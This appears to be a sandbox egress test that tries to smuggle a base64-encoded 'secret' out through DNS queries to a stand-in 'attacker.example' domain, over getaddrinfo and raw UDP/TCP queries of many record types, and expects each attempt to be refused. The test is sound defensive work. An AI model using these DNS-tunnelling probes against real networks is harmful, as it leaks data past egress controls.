#: number: 5
#: network: outside
#: title: Data in the names asked for
#: technique: getaddrinfo for names below the attacker's, and raw questions of many types to the system's resolver over UDP and TCP.
#: reference: REQUIREMENTS N1; RFC 1035
#: expected: NXDOMAIN from the sandbox's own stub, and not a question at the attacker's server
#: control: without a sandbox the questions reach the attacker's server, whose answers are authoritative
#: egress: {allow: ["*.allowed.example"]}


def resolver():
    for line in open("/etc/resolv.conf"):
        if line.startswith("nameserver"):
            return line.split()[1]
    raise RuntimeError("no resolver in /etc/resolv.conf")


refused("getaddrinfo")(lambda: "%s" % socket.getaddrinfo("c2VjcmV0.attacker.example", 443))
refused("getaddrinfo-deep")(lambda: "%s" % socket.getaddrinfo(".".join(["x" * 60] * 3) + ".attacker.example", 443))


def authoritative(got):
    # Only the attacker's own server answers with AA (RFC 1035 section 4.1.1).
    flags, = struct.unpack_from(">H", got, 2)
    if flags & 0x0400:
        return "answered by its own server, code %d" % (flags & 15)
    raise Held("stub, code %d" % (flags & 15))


for _name, _kind in {"a": 1, "ns": 2, "cname": 5, "soa": 6, "ptr": 12, "mx": 15, "txt": 16, "aaaa": 28, "srv": 33, "https": 65, "any": 255}.items():
    def _ask(kind=_kind, name=_name):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(1.5)
            client.connect((resolver(), 53))
            client.send(question("c2VjcmV0-%s.attacker.example" % name, kind))
            return authoritative(client.recv(4096))
    refused("udp-" + _name)(_ask)


@refused("tcp")
def _():
    with opened_tcp(resolver(), 53) as client:
        asked = question("c2VjcmV0-tcp.attacker.example", 16)
        return authoritative(answer_to(client, struct.pack(">H", len(asked)) + asked)[2:])


@refused("allowed-name-of-another-type")
def _():
    # A name that is allowed must not carry a question of a type that the stub does not know to its server, either.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(1.5)
        client.connect((resolver(), 53))
        client.send(question("c2VjcmV0.allowed.example", 16))
        return authoritative(client.recv(4096))


run()
